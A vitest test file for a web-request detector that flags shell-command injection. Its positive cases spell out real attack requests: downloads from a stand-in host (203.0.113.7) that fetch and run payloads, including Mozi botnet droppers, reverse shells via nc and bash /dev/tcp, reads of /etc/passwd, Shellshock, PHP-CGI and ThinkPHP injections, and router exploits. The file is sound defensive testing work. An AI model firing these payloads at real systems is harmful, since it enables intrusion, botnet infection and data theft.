import { expect, it } from 'vitest';
import { payloadsOf } from '../../../test/support/request-facts.js';
import { hasShell } from './shell.js';
import type { PayloadPlace } from './payload-text.js';

it.each([
  '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/mozi.a;chmod+777+mozi.a;/tmp/mozi.a',
  '/?ip=127.0.0.1;wget%20http://203.0.113.7/x.sh',
  '/?;wget+http://203.0.113.7/a',
  '/?ip=127.0.0.1%3Bcurl+-s+203.0.113.7',
  '/?ip=127.0.0.1%7Ccat%20/etc/passwd',
  '/?ip=127.0.0.1%26%26whoami',
  '/?ip=`whoami`',
  '/?ip=$(whoami)',
  '/?ip=$(curl%20http://203.0.113.7)',
  '/?ip=%60wget+http://203.0.113.7/a%60',
  '/?ip=1%0awget%20http://203.0.113.7/x',
  '/?ip=1|nslookup+x.example',
  '/?ip=1||ping+-c+10+203.0.113.7',
  '/?ip=1;sleep+10',
  '/?ip=1;/bin/cat+/etc/hosts',
  '/?ip=1;/usr/bin/id%3Buname%20-a',
  '/?ip=1;cat${IFS}/etc/hosts',
  '/language/Swedish${IFS}&&echo${IFS}x&&tar${IFS}/string.js',
  '/?cmd=cat+/etc/hosts',
  '/?cmd=ls+-la',
  '/?exec=wget+http://203.0.113.7/a',
  '/?x=1;nc+-e+/bin/sh+203.0.113.7+4444',
  '/?x=1;bash+-i+>%26+/dev/tcp/203.0.113.7/4444',
  '/?x=1|powershell+-enc+SQBFAFgA',
  '/?x=1;rm+-rf+/tmp/a',
  '/?x=1;chmod+%2Bx+/tmp/a',
  '/?x=()+{+:;};+/bin/bash+-c+id',
  '/?q=x;wget+http://203.0.113.7/a',
  '/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
  '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
  '/?+config-create+/&/<?=phpinfo()?>+/tmp/x.php',
  '/?x=<?php%20system($_GET[1]);?>',
  '/?x=<!--%23exec%20cmd="id"-->',
  '/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo',
  '/;wget%20http://203.0.113.7/a',
  '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://203.0.113.7/a)',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.7/Mozi.m',
])('is found in %s', (target) => {
  expect(payloadsOf(target)).toContain('payload:shell');
});

it.each<[string, PayloadPlace]>([
  ['whoami', 'command'],
  [`;${' '.repeat(16)}whoami`, 'value'],
  [`${'x'.repeat(20)}; whoami`, 'value'],
  ['\nwhoami', 'value'],
  ['|whoami', 'header'],
  ['(){ :;};', 'value'],
  ['() { :;};', 'header'],
  ['$ifscat$ifs/etc', 'value'],
  ['xx${ifs}yy', 'prose'],
  ['x$ifs-y', 'value'],
  ['x$ifs$y', 'value'],
  ['x$ifs/y', 'value'],
  ['<?php system(1)', 'value'],
  ['<!--#exec', 'prose'],
  ['allow_url_include=1', 'value'],
  ['-d auto_prepend_file', 'value'],
  ['\\think\\app/index', 'prose'],
])('is found in %j, a %s', (text, place) => {
  expect(hasShell(text, place)).toBe(true);
});

it.each<[string, PayloadPlace]>([
  ['', 'command'],
  ['whoami', 'value'],
  ['x whoami', 'value'],
  ['x  whoami', 'value'],
  ['x&whoami', 'value'],
  ['&xwhoami', 'value'],
  ['x(whoami)', 'value'],
  ['$xwhoami', 'value'],
  [';whoami', 'header'],
  ['x ;whoami', 'prose'],
  [`;${' '.repeat(17)}whoami`, 'value'],
  ['() { :;', 'value'],
  ['x() { :;};', 'value'],
  ['x${ifs}', 'value'],
  ['abcdef$ifs x', 'value'],
  [' $ifsx', 'value'],
  ['${ifs}x', 'value'],
  ['<?php x', 'value'],
  ['<?php system(1)', 'prose'],
  ['system(1) < x', 'value'],
  ['system(1) <?', 'value'],
  ['allow_url_include', 'value'],
  ['allow_url_include=1', 'prose'],
  ['\\think\\x', 'value'],
  ['x/index', 'value'],
])('is not found in %j, a %s', (text, place) => {
  expect(hasShell(text, place)).toBe(false);
});
